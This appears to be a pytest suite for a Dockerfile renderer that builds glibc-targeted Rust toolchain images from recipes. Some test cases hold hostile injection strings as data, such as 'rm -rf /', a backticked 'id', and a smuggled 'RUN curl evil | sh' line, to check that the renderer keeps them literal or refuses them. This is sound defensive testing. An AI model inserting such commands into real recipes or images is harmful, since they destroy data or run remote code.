"""render: every shipped recipe gives a Dockerfile that parses, the same bytes every time.

Golden file: tests/golden/fedora20-llvm5.Dockerfile. After a deliberate change to that
recipe or its template, regenerate it with UPDATE_GOLDEN=1 and review the diff.
"""

from __future__ import annotations

import io
import os
import re
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser

from orchestrator.backends import GC_SECTIONS
from orchestrator.backends.docker import container_rustflags
from orchestrator.errors import RecipeError
from orchestrator.glibc import GlibcVersion
from orchestrator.paths import RECIPES_DIR
from orchestrator.recipe import available_recipes, check_glibc, load_recipe
from orchestrator.render import render_dockerfile

from .conftest import assert_clean_failure, run_tool

GOLDEN = Path(__file__).parent / "golden"
SHIPPED = available_recipes()


def parse(text: str) -> DockerfileParser:
    return DockerfileParser(fileobj=io.BytesIO(text.encode()))


def test_the_four_recipes_are_shipped():
    assert {"fedora20-llvm5", "centos7", "debian-bullseye", "centos7-zig"} <= set(SHIPPED)


@pytest.mark.parametrize("name", SHIPPED)
def test_every_shipped_recipe_renders_and_parses(name):
    recipe = load_recipe(name)
    text = render_dockerfile(recipe)
    parsed = parse(text)

    instructions = [item["instruction"] for item in parsed.structure]
    assert instructions[instructions.index("FROM")] == "FROM"
    assert parsed.baseimage == recipe.base_image
    assert set(instructions) <= {"FROM", "RUN", "COPY", "ENV", "LABEL", "COMMENT"}, instructions
    # ENV values survive the quoting exactly, whatever they contain.
    for key, value in recipe.env.items():
        assert parsed.envs[key] == value
    assert parsed.labels["org.glibc-build.recipe"] == recipe.name
    # The image proves its own glibc: the build fails if the base is not what the recipe says.
    assert f"= 'glibc {recipe.glibc}'" in text
    # Each source is copied in from the build context, and re-checked when its sha256 is pinned.
    for source in recipe.sources:
        assert f"COPY rsrc/{source.filename} " in text
        if source.sha256:
            assert f"{source.sha256}  {source.filename}" in text
    # Same recipe, same bytes: twice, and from a freshly loaded recipe.
    assert render_dockerfile(recipe) == text
    assert render_dockerfile(load_recipe(name)) == text
    assert text.endswith("\n") and not text.endswith("\n\n")


def test_fedora20_llvm5_matches_the_golden_file():
    text = render_dockerfile(load_recipe("fedora20-llvm5"))
    golden = GOLDEN / "fedora20-llvm5.Dockerfile"
    if os.environ.get("UPDATE_GOLDEN") == "1":
        golden.write_text(text)
    assert text == golden.read_text()
    # ...and the user-facing command prints exactly those bytes.
    proc = run_tool("render", "--recipe", "fedora20-llvm5", "--glibc", "2.28")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == golden.read_text()


def test_fedora20_llvm5_is_the_classic_builder():
    recipe = load_recipe("fedora20-llvm5")
    assert (recipe.glibc, recipe.base_image) == (GlibcVersion(2, 18), "fedora:20")
    assert {s.name for s in recipe.sources} == {"make", "cmake", "llvm", "clang", "lld", "rust"}
    assert recipe.source("cmake").checksums.endswith("cmake-3.29.3-SHA-256.txt")
    assert all(s.signed for s in recipe.sources)  # every one checked by a pinned key too
    text = render_dockerfile(recipe)
    assert "-DCMAKE_BUILD_TYPE=MinSizeRel" in text and "-DLLVM_TARGETS_TO_BUILD=X86" in text
    # The image links with lld; --gc-sections is every backend's, added by the docker backend.
    flags = " ".join(container_rustflags(recipe, GC_SECTIONS))
    assert "-fuse-ld=lld" in recipe.env["RUSTFLAGS"] and "--gc-sections" in flags


def test_debian_bullseye_needs_no_network():
    recipe = load_recipe("debian-bullseye")
    text = render_dockerfile(recipe)
    assert recipe.sources == [] and "COPY" not in text
    assert not re.search(r"apt-get|curl|wget", text.split("FROM", 1)[1])
    assert set(recipe.packages) <= set(recipe.debootstrap["include"])
    assert recipe.toolchain["rust"] == "host" and recipe.toolchain["rust_mount"]


def test_zig_wrapper_in_the_image_rewrites_rustc_arguments(tmp_path):
    """Run the rendered zig-cc script under sh, with the real zig in place of the image's, on
    the arguments rustc passes that zig refuses (-lgcc_s, --target=, rust-lld's flags)."""
    from orchestrator.zig import zig_binary

    text = render_dockerfile(load_recipe("centos7-zig"))
    line = next(line.strip() for line in text.splitlines() if "> /usr/local/bin/zig-cc" in line)
    command = line.split(" > /usr/local/bin/zig-cc")[0]
    script = subprocess.run(
        ["sh", "-c", command], capture_output=True, text=True, check=True
    ).stdout
    assert script.startswith("#!/bin/sh\n")
    wrapper = tmp_path / "zig-cc"
    wrapper.write_text(script.replace("/usr/local/bin/zig", str(zig_binary())))
    wrapper.chmod(0o755)
    (tmp_path / "lib.c").write_text(
        "#include <fcntl.h>\nint f(int fd) { return fcntl(fd, F_GETFD); }\n"
    )
    out = tmp_path / "lib.so"
    proc = subprocess.run(
        [
            str(wrapper),
            "--target=x86_64-unknown-linux-gnu",
            "-shared",
            "-fPIC",
            "-o",
            str(out),
            str(tmp_path / "lib.c"),
            "-lgcc_s",
            "-Wl,--no-undefined-version",
            "-fuse-ld=lld",
            "-B/opt/rust/lib/rustlib/x86_64-unknown-linux-gnu/bin/gcc-ld",
        ],
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "ZIG_TARGET_GLIBC": "2.17", "HOME": os.environ["HOME"]},
    )
    assert proc.returncode == 0, proc.stderr
    versions = subprocess.run(
        ["readelf", "-V", "-W", str(out)], capture_output=True, text=True, check=True
    ).stdout
    assert "GLIBC_2.2.5" in versions and "GLIBC_2.28" not in versions  # fcntl, not fcntl64

    # rustc passes long command lines in an @file, one argument a line: rewritten in place.
    response = tmp_path / "linker-arguments"
    response.write_text(
        "\n".join(
            [
                "-shared",
                "-o",
                str(out),
                str(tmp_path / "lib.c"),
                "-lgcc_s",
                "--target=x86_64-unknown-linux-gnu",
                "-fuse-ld=lld",
                "-B/opt/rust/gcc-ld/",
            ]
        )
    )
    proc = subprocess.run(
        [str(wrapper), f"@{response}"],
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "HOME": os.environ["HOME"]},
    )
    assert proc.returncode == 0, proc.stderr
    assert response.read_text().splitlines() == [
        "-shared",
        "-o",
        str(out),
        str(tmp_path / "lib.c"),
        "-lunwind",
    ]


def test_hostile_values_stay_literal(tmp_path):
    """Values are data: quotes, `;`, `$` and spaces reach the image exactly as written."""
    source = (RECIPES_DIR / "centos7.toml").read_text()
    nasty = 'it\'s; rm -rf / # $HOME "x" `id`'
    recipe_path = tmp_path / "nasty.toml"
    recipe_path.write_text(source.replace("[env]", "[env]\nNASTY = '''" + nasty + "'''"))
    recipe = load_recipe(recipe_path)
    text = render_dockerfile(recipe)
    assert parse(text).envs["NASTY"] == nasty
    env_line = next(line for line in text.splitlines() if line.startswith("ENV NASTY="))
    assert shlex.split(env_line[len("ENV NASTY=") :]) == [nasty]


def test_target_glibc_gate():
    bullseye = load_recipe("debian-bullseye")
    assert check_glibc(bullseye, None) == GlibcVersion(2, 31)
    assert check_glibc(bullseye, "2.35") == GlibcVersion(2, 35)
    with pytest.raises(RecipeError, match="newer than --glibc 2.17"):
        check_glibc(bullseye, "2.17")
    with pytest.raises(RecipeError, match="newer than --glibc 2.28"):
        render_dockerfile(bullseye, GlibcVersion(2, 28))
    # Targets at or above the base all get the same Dockerfile: the image does not depend
    # on the target, so one image serves them all.
    assert render_dockerfile(bullseye, "2.31") == render_dockerfile(bullseye, "2.39")

    proc = run_tool("render", "--recipe", "debian-bullseye", "--glibc", "2.17")
    assert_clean_failure(proc, 2, "debian-bullseye", "2.31", "newer than --glibc 2.17", "centos7")
    assert proc.stdout == ""


def test_digest_covers_recipe_and_template(tmp_path):
    recipe = load_recipe("centos7")
    assert recipe.digest() == load_recipe("centos7").digest()
    assert len(recipe.digest()) == 64
    changed = tmp_path / "centos7.toml"
    original = (RECIPES_DIR / "centos7.toml").read_text()
    changed.write_text(original.replace('"which"', '"which", "zip"'))
    assert load_recipe(changed).digest() != recipe.digest()
    other_template = tmp_path / "other.toml"
    other_template.write_text(
        (RECIPES_DIR / "centos7.toml")
        .read_text()
        .replace("centos7.Dockerfile.j2", "zig.Dockerfile.j2")
    )
    assert load_recipe(other_template).digest() != recipe.digest()


def test_template_needing_what_the_recipe_lacks_is_a_recipe_error(tmp_path):
    recipe_path = tmp_path / "no-sources.toml"
    text = (RECIPES_DIR / "fedora20-llvm5.toml").read_text()
    recipe_path.write_text(text[: text.index("[[sources]]")])  # the template wants src.make...
    with pytest.raises(RecipeError, match="needs something the recipe does not give"):
        render_dockerfile(load_recipe(recipe_path))
    proc = run_tool("render", "--recipe", recipe_path)
    assert_clean_failure(proc, 2, "fedora20-llvm5", "make")


@pytest.mark.parametrize(
    "edit, needle",
    [
        (lambda t: t.replace('glibc = "2.17"', 'glibc = "two"'), "not a glibc version"),
        (
            lambda t: t.replace('template = "centos7.Dockerfile.j2"', 'template = "nope.j2"'),
            "template nope.j2 is neither beside the recipe nor in",
        ),
        (
            lambda t: t.replace('image = "centos:7"', 'image = "centos:7; rm -rf /"'),
            "not an image reference",
        ),
        (
            lambda t: t.replace("[toolchain]", '[toolchain]\npackages = ["x"]'),
            "goes at the top level",
        ),
        (lambda t: t + '\ncolour = "blue"\n', "unknown key colour"),
        (lambda t: t.replace('name = "centos7"', 'name = "CentOS 7"'), "lower-case"),
        (lambda t: t.replace('CC = "gcc"', 'CC = "gcc\\nRUN curl evil | sh"'), "one line"),
        (lambda t: t.replace("[base]", "[base"), "not valid TOML"),
    ],
)
def test_bad_recipes_are_refused_with_the_file_named(tmp_path, edit, needle):
    path = tmp_path / "bad.toml"
    path.write_text(edit((RECIPES_DIR / "centos7.toml").read_text()))
    with pytest.raises(RecipeError, match=needle):
        load_recipe(path)
    proc = run_tool("render", "--recipe", path)
    assert_clean_failure(proc, 2, str(path), needle)


def test_unknown_recipe_name_lists_the_known_ones():
    proc = run_tool("render", "--recipe", "no-such-recipe")
    assert_clean_failure(proc, 2, "no-such-recipe", "debian-bullseye", "fedora20-llvm5")


def test_key_paths_resolve_next_to_the_recipe_then_in_rsrc(tmp_path):
    """`keys = ["keys/rust-release.asc"]` works from recipes/ (found in rsrc/) and from a
    recipe file elsewhere; a key file that exists nowhere is a recipe error."""
    assert Path(load_recipe("centos7").source("rust").keys[0]).is_file()
    copy = tmp_path / "centos7.toml"
    shutil.copy(RECIPES_DIR / "centos7.toml", copy)
    assert load_recipe(copy).source("rust").keys == load_recipe("centos7").source("rust").keys
    copy.write_text(copy.read_text().replace("keys/rust-release.asc", "keys/missing.asc"))
    with pytest.raises(RecipeError, match="key file 'keys/missing.asc' not found"):
        load_recipe(copy)


def own_recipe(folder: Path, template_text: str | bytes, name: str = "mine.j2") -> Path:
    """centos7's recipe in a folder of the user's own, with its template beside it."""
    recipe = folder / "mine.toml"
    recipe.write_text(
        (RECIPES_DIR / "centos7.toml")
        .read_text()
        .replace('template = "centos7.Dockerfile.j2"', f'template = "{name}"')
    )
    template = folder / name
    if isinstance(template_text, bytes):
        template.write_bytes(template_text)
    else:
        template.write_text(template_text)
    return recipe


@pytest.mark.parametrize(
    "template_text, needle",
    [
        ("FROM {{ base_image }}\nRUN echo {{ packages + 1 }}\n", "line 2"),
        ("FROM {{ base_image }}\nRUN echo {{ 1 // 0 }}\n", "line 2"),
        ("FROM {{ base_image }}\nRUN echo {{ env.keys() | sum }}\n", "line 2"),
        (b"FROM \xff\xfe centos:7\n", "not UTF-8"),
    ],
)
def test_a_broken_template_of_ones_own_is_a_recipe_error(tmp_path, template_text, needle):
    """A template is the user's code: its errors are bad input (exit 2) naming the template,
    never an internal error."""
    recipe = own_recipe(tmp_path, template_text)
    with pytest.raises(RecipeError, match="mine.j2"):
        render_dockerfile(load_recipe(recipe))
    proc = run_tool("render", "--recipe", recipe)
    assert_clean_failure(proc, 2, "mine.j2", needle)
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr


def test_include_finds_templates_beside_the_recipe_first(tmp_path):
    recipe = own_recipe(tmp_path, 'FROM {{ base_image }}\n{% include "part.j2" %}\n')
    (tmp_path / "part.j2").write_text("RUN echo {{ name | shquote }} from beside the recipe\n")
    text = render_dockerfile(load_recipe(recipe))
    assert "RUN echo centos7 from beside the recipe" in text
    proc = run_tool("render", "--recipe", recipe)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == text
    # The shipped templates are still found (the recipe's folder is searched first only).
    (tmp_path / "part.j2").write_text('{% include "centos7.Dockerfile.j2" %}\n')
    text = render_dockerfile(load_recipe(recipe))
    assert "# centos7: CentOS 7" in text and "org.glibc-build.recipe=centos7" in text


def test_an_included_template_that_is_missing_or_not_utf8_is_named(tmp_path):
    recipe = own_recipe(tmp_path, 'FROM {{ base_image }}\n{% include "part.j2" %}\n')
    proc = run_tool("render", "--recipe", recipe)
    assert_clean_failure(proc, 2, "mine.j2", "part.j2")
    (tmp_path / "part.j2").write_bytes(b"RUN echo \xff\n")
    proc = run_tool("render", "--recipe", recipe)
    assert_clean_failure(proc, 2, "part.j2", "not UTF-8")


def test_a_folder_given_as_recipe_is_called_a_folder(tmp_path):
    proc = run_tool("render", "--recipe", tmp_path)
    assert_clean_failure(proc, 2, str(tmp_path), "is a folder")
    assert "does not exist" not in proc.stderr


@pytest.mark.unit
@pytest.mark.parametrize(
    "name, needle",
    [
        (
            "debian-bullseye",
            "apt-get install -y --no-install-recommends libasound2-dev libudev-dev",
        ),
        ("debian-bullseye-zig", "apt-get install -y --no-install-recommends libasound2-dev"),
        ("centos7", "pkgconfig which xz libasound2-dev libudev-dev"),
        ("fedora20-llvm5", "tar which xz libasound2-dev libudev-dev"),
    ],
)
def test_image_packages_are_installed_and_change_the_dockerfile(name, needle):
    """A crate's image-packages reach the image, so its tag (a hash of the Dockerfile)
    changes with them; without any, the Dockerfile is as before."""
    from dataclasses import replace

    recipe = load_recipe(name)
    plain = render_dockerfile(recipe)
    text = render_dockerfile(replace(recipe, image_packages=("libasound2-dev", "libudev-dev")))
    assert needle in text and needle not in plain
    assert text != plain


@pytest.mark.unit
def test_a_crates_image_packages_reach_the_recipe(tmp_path):
    from orchestrator import build, cargo

    crate = cargo.Crate(
        root=tmp_path,
        manifest=tmp_path / "Cargo.toml",
        workspace_root=tmp_path,
        target_dir=tmp_path / "target",
        packages=("p",),
        version="1",
        settings={"image-packages": (["libasound2-dev"], tmp_path)},
        source_root=tmp_path,
    )
    request = build.resolve(
        build.BuildOptions(
            crate_dir=tmp_path, backend="docker", recipe="debian-bullseye", glibc="2.31"
        ),
        crate,
    )
    assert request.recipe is not None
    assert request.recipe.image_packages == ("libasound2-dev",)
